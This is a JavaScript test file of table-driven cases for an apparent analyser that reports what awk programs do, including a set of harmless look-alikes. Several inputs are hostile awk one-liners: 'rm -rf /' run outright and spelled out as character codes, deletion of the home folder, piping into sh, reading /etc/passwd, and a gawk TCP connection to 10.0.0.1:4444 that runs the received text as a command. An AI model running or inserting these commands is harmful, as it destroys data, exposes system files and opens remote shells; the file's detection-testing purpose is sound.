import { table } from "../testing/table.js";

table("awk", "what it does", [
  { why: "letters by number are printed", code: 'BEGIN{printf "%c%c", 114, 109}', does: ['print "rm"'] },
  {
    why: "letters of a split text are printed",
    code: 'BEGIN{n=split("114 109 32 45 114 102 32 47",a," ");for(i=1;i<=n;i++)printf "%c",a[i]+0}',
    does: ['print "rm -rf /"'],
  },
  { why: "system", code: 'BEGIN { system("rm -rf /") }', does: ["shell rm -rf /"] },
  { why: "the home folder", code: 'BEGIN { system("rm -rf " ENVIRON["HOME"]) }', does: ["shell rm -rf ~"] },
  { why: "a command made of a line", code: '{ system("rm " $1) }', does: ["?shell rm …"] },
  { why: "printing into a command", code: 'BEGIN { print "id" | "sh" }', does: ["shell sh < id\n"] },
  { why: "reading from a command", code: 'BEGIN { "id" | getline x; print x }', does: ["shell id", "print UNKNOWN"] },
  {
    why: "what was read decides",
    code: 'BEGIN { "cat x" | getline c; system(c) }',
    does: ["shell cat x", "shell UNKNOWN"],
  },
  { why: "printing into a file", code: '{ print $1 > "out.txt" }', does: ["?write out.txt"] },
  {
    why: "reading a file",
    code: 'BEGIN { while ((getline l < "/etc/passwd") > 0) print l }',
    does: ["read /etc/passwd", "?print UNKNOWN"],
  },
  {
    why: "gawk talks to hosts",
    code: 'BEGIN { s = "/inet/tcp/0/10.0.0.1/4444"; s |& getline c; system(c) }',
    does: ["connect 10.0.0.1:4444", "shell UNKNOWN untrusted"],
  },
  { why: "functions", code: 'function f(x) { return x "d" } BEGIN { system(f("i")) }', does: ["shell id"] },
  {
    why: "known input is read line by line",
    code: "{ print $2 }",
    input: { stdin: "a rm\nb ls\n" },
    does: ['print "rm\\nls\\n"'],
  },
  {
    why: "variables set from outside",
    code: "BEGIN { system(c) }",
    input: { variables: new Map([["c", "id"]]) },
    does: ["shell id"],
  },
  { why: "gsub of a plain text", code: 'BEGIN { x = "iXd"; gsub(/X/, "", x); system(x) }', does: ["shell id"] },
  { why: "substr and toupper", code: 'BEGIN { print toupper(substr("xid", 2)) }', does: ['print "ID\\n"'] },
]);

table("awk", "look-alikes that do nothing", [
  { why: "fields printed", code: "{print $1}", does: ["?print UNKNOWN"] },
  { why: "lines once", code: "!seen[$0]++", does: ["?print UNKNOWN"] },
  { why: "sums", code: "/foo/ && $3 > 2 {sum+=$3} END {print sum/NR}", does: ["?print UNKNOWN"] },
  {
    why: "a text and a comment that mention commands",
    code: 'BEGIN { x = "system(\\"rm\\")" } # system("rm")',
    does: [],
  },
  { why: "a placeholder, which every awk refuses", code: "{ ... }", does: [] },
  { why: "two files joined", code: "NR==FNR{a[$1];next} $1 in a", does: ["?print UNKNOWN"] },
  { why: "a pattern with a slash in a set", code: "/[/]x/ { print }", does: ["?print UNKNOWN"] },
]);
